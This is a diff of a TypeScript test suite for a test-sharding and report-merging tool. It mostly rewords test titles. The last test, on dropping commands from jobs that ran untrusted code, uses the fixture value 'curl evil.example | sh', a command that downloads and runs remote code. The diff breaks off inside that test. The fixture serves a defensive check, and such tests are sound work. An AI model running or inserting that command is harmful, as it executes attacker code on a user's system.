@@ -15,7 +15,7 @@ import { makeReport } from './render/reports.js'
 describe('dealing', () => {
   const load = (id: string, cost: number, group = id) => ({ id, group, cost })
   test.each<[string, ReturnType<typeof load>[], number, string[][]]>([
-    ['one shard keeps the rank', [load('a', 1), load('b', 9)], 1, [['a', 'b']]],
+    ['one shard keeps the order', [load('a', 1), load('b', 9)], 1, [['a', 'b']]],
     [
       'like cost',
       [load('a', 5), load('b', 4), load('c', 3), load('d', 2)],
@@ -26,16 +26,16 @@ describe('dealing', () => {
       ],
     ],
     [
-      'one test file, one shard',
+      'a test file is in one shard only',
       [load('a', 5, 'x'), load('b', 4, 'y'), load('c', 3, 'x')],
       2,
       [['a', 'c'], ['b']],
     ],
-    ['no more shards than files', [load('a', 1)], 5, [['a']]],
+    ['no more shards than test files', [load('a', 1)], 5, [['a']]],
     ['nothing', [], 3, [[]]],
   ])('%s', (_title, loads, count, shards) => expect(deal(loads, count)).toEqual(shards))
 
-  test('every target in exactly one shard, groups whole, none empty', () => {
+  test('every target is in exactly one shard, groups stay together, and no shard is empty', () => {
     const some = fc.uniqueArray(fc.tuple(fc.nat(99), fc.nat(9), fc.nat(50)), {
       selector: ([id]) => id,
       minLength: 1,
@@ -55,7 +55,7 @@ describe('dealing', () => {
   })
 })
 
-test('functions that own tests alone are asked about are where the tests of their file are, the others in turn', () => {
+test('watch-only functions go to the shard with the tests of their file, all others take turns', () => {
   const loads = ['x', 'y'].map(group => ({ id: group, group, cost: 1 }))
   const watched = ['y', 'z', 'y', 'w'].map((group, target) => ({ target, group }))
   expect(dealWatched(watched, loads, [['x'], ['y']])).toEqual([[], [0, 1, 2, 3]])
@@ -100,7 +100,7 @@ const proof = (number: number, more: Partial<Report> = {}): VerifyFile => {
 const inFirstFile = proof(2).report.tests.map(test => ({ ...test, file: 'tests/test_1.py' }))
 const tool = { name: 'testwright', version: '0' }
 
-describe('functions that own tests alone are asked about', () => {
+describe('watch-only functions', () => {
   const given = { id: 'a.py::quiet', file: 'a.py', name: 'quiet' }
   const reason = 'not reachable: it is in a table'
   const watched = { ...(target as Report['targets'][number]), ...given }
@@ -112,7 +112,7 @@ describe('functions that own tests alone are asked about', () => {
   }
   const merge = (files: VerifyFile[]): Report => mergeVerifyFiles(withWatched, files, 7, tool).report
 
-  test('are as the plan has them, with its reason', () => {
+  test('are shown as in the plan, with its reason', () => {
     const { targets, skipped } = merge([telling({ skipReason: 'Click here' }), proof(2)])
     expect(targets.map(({ id, skipReason }) => [id, skipReason])).toEqual([
       ...ids.map(id => [id, undefined]),
@@ -122,12 +122,12 @@ describe('functions that own tests alone are asked about', () => {
     expect(skipped).toEqual([])
   })
 
-  test('are skipped where their shard tells nothing of them', () => {
+  test('are skipped where their shard tells nothing about them', () => {
     expect(merge([proof(2)]).skipped).toContainEqual({ ...given, reason })
     expect(merge([proof(1), proof(2)]).skipped).toEqual([{ ...given, reason }])
   })
 
-  test('are told by their own shard alone, and stand once in a plan', () => {
+  test('are read only from their own shard, and may be only once in a plan', () => {
     const foreign = { ...telling({}), shard: { number: 2, of: 2 } }
     expect(() => merge([foreign])).toThrow(/not its own/)
     const twice = { ...withWatched, watchOnly: [[watched], [watched]] }
@@ -136,7 +136,7 @@ describe('functions that own tests alone are asked about', () => {
     expect(() => mergeVerifyFiles(unknown, [], 7, tool)).toThrow(/twice, or in no shard/)
   })
 
-  test('a reason for another function is shown only in our words', () => {
+  test('a reason that is given for another function is not shown', () => {
     const odd = proof(1)
     const [own] = odd.report.targets
     const said = {
@@ -148,7 +148,7 @@ describe('functions that own tests alone are asked about', () => {
 })
 
 describe('joining', () => {
-  test('jobs that an earlier run had answered are summed, and not named where there is none', () => {
+  test('jobs that were answered from an earlier run are summed, and left out where there are none', () => {
     const answered = (number: number) => proof(number, { bill: { ...base.bill, remembered: number } })
     const join = (proofs: VerifyFile[]) => mergeVerifyFiles(plan, proofs, 7, tool).report.bill
     expect(join([answered(1), answered(2)]).remembered).toBe(3)
@@ -156,7 +156,7 @@ describe('joining', () => {
     expect(join([proof(1), proof(2)])).not.toHaveProperty('remembered')
   })
 
-  test('sums, order of rank, notes once', () => {
+  test('numbers are summed, targets are in the order of rank, and notes are not repeated', () => {
     const { report, notes, missing } = mergeVerifyFiles(plan, [proof(2), proof(1)], 7, tool)
     expect(report.targets.map(one => one.id)).toEqual(ids)
     expect(report.pull).toEqual({ base: base_, head, number: 7 })
@@ -169,14 +169,14 @@ describe('joining', () => {
     expect({ notes, missing }).toEqual({ notes: [{ code: 'one-pass' }], missing: [] })
   })
 
-  test('the sandbox is that of the first shard that ran something, and so is the way to its trees', () => {
+  test('sandbox and trees are those of the first shard that ran anything', () => {
     const proofs = [proof(1, { sandbox: null, trees: null }), proof(2, { sandbox: 'sudo', trees: 'copy' })]
     expect(mergeVerifyFiles(plan, proofs, 7, tool).report).toMatchObject({ sandbox: 'sudo', trees: 'copy' })
     const none = proofs.map(file => ({ ...file, report: { ...file.report, sandbox: null, trees: null } }))
     expect(mergeVerifyFiles(plan, none, 7, tool).report).toMatchObject({ sandbox: null, trees: null })
   })
 
-  test('a missing shard is unfinished, by name', () => {
+  test('functions of a missing shard are named as unfinished', () => {
     const { report, missing } = mergeVerifyFiles(plan, [proof(1)], 7, tool)
     expect(missing).toEqual([2])
     expect(report.skipped).toEqual([
@@ -189,7 +189,7 @@ describe('joining', () => {
     ['a target of another shard', [{ ...proof(1), shard: { number: 2, of: 2 } }], /not its own/],
     ['another number of shards', [{ ...proof(1), shard: { number: 1, of: 3 } }], /not its own/],
     [
-      'one test file of two shards',
+      'one test file in two shards',
       [proof(1), proof(2, { files: proof(1).report.files, tests: inFirstFile })],
       /Two shards wrote tests\/test_1.py/,
     ],
@@ -198,27 +198,27 @@ describe('joining', () => {
   )
 })
 
-describe('what is handed over', () => {
+describe('files between jobs', () => {
   const bound = { plan: '1'.repeat(64), base: base_, head }
   test.each<[string, () => void, RegExp]>([
     ['no JSON', () => parseHandover(verifySchema, '{', 'verify-1-of-2.json'), /not JSON/],
     [
-      'a key more',
+      'one more key',
       () => parseHandover(verifySchema, JSON.stringify({ ...proof(1), x: 1 }), 'verify-1-of-2.json'),
       /not what its mode writes/,
     ],
     [
-      'a wrong sum',
+      'a wrong hash',
       () => parseHandover(verifySchema, JSON.stringify({ ...proof(1), plan: 'x' }), 'p'),
       /\(plan: /,
     ],
     ['another head', () => checkBound({ ...bound, head: 'c'.repeat(40) }, bound, 'p'), /two heads/],
     ['another plan', () => checkBound({ ...bound, plan: '2'.repeat(64) }, bound, 'p'), /another plan/],
     ['a shard out of range', () => readShard('3/2', 2), /shard is 3\/2, and the plan has 2/],
-    ['no shard of several', () => readShard('', 2), /say which one/],
-    ['a number alone', () => readShard('2', 2), /such as 1\/2/],
+    ['no shard given', () => readShard('', 2), /say which one/],
+    ['only a number', () => readShard('2', 2), /such as 1\/2/],
   ])('refused: %s', (_title, act, words) => expect(act).toThrow(words))
-  test('a whole proof comes through', () => {
+  test('a valid file is read', () => {
     expect(parseHandover(verifySchema, JSON.stringify(proof(1)), 'p')).toEqual(proof(1))
     expect(readShard('', 1)).toEqual({ number: 1, of: 1 })
   })
@@ -237,14 +237,14 @@ describe('own tests of several shards', () => {
     }).report.ownTests
   test.each<[string, Own[], Own[], Own[]]>([
     ['each once', [own()], [own()], [own()]],
-    ['those of one', [own()], [], [own()]],
+    ['tests of one shard', [own()], [], [own()]],
     ['of both', [own()], [own({ id: 't.py::test_b' })], [own(), own({ id: 't.py::test_b' })]],
-    ['not agreed on the base', [own()], [own({ onBase: 'passed' })], [own({ onBase: null })]],
-    ['not agreed on the head', [own()], [own({ onHead: 'failed' })], [own({ onHead: null })]],
-    ['not known to one', [own()], [own({ onBase: null })], [own({ onBase: null })]],
+    ['with different outcomes on the base', [own()], [own({ onBase: 'passed' })], [own({ onBase: null })]],
+    ['with different outcomes on the head', [own()], [own({ onHead: 'failed' })], [own({ onHead: null })]],
+    ['without an outcome from one shard', [own()], [own({ onBase: null })], [own({ onBase: null })]],
   ])('%s', (_, one, other, all) => expect(merged(one, other)).toEqual(all))
 
-  test('a command is not taken from a job that ran code of strangers', () => {
+  test('a command of a job that ran untrusted code is dropped', () => {
     const baseline = {
       ...{ measured: true, why: null, tests: ['t.py::test_a'], linesRun: [1], mutants: null, survivors: [] },
       ...{ hunks: [], command: 'curl evil.example | sh' },
